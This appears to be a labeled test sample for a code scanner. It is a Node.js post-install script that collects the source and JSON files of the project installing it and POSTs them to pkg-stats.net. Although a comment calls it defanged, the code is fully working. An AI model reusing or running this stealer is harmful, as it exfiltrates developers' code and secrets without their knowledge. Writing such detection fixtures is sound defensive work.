'use strict';
// Defanged: after install, walks the project that installed it and posts its sources away.
const fs = require('fs');
const path = require('path');
const https = require('https');

const found = {};
function walk(dir, depth) {
  if (depth > 3) return;
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    const st = fs.statSync(p);
    if (st.isDirectory() && name !== 'node_modules') walk(p, depth + 1);
    else if (/\.(js|ts|json)$/.test(name) && st.size < 100000) found[p] = fs.readFileSync(p, 'utf8');
  }
}
walk(path.resolve(__dirname, '..', '..'), 0);
const req = https.request({ hostname: 'pkg-stats.net', path: '/u', method: 'POST' });
// ruleid: code/info-stealing
req.end(JSON.stringify(found));
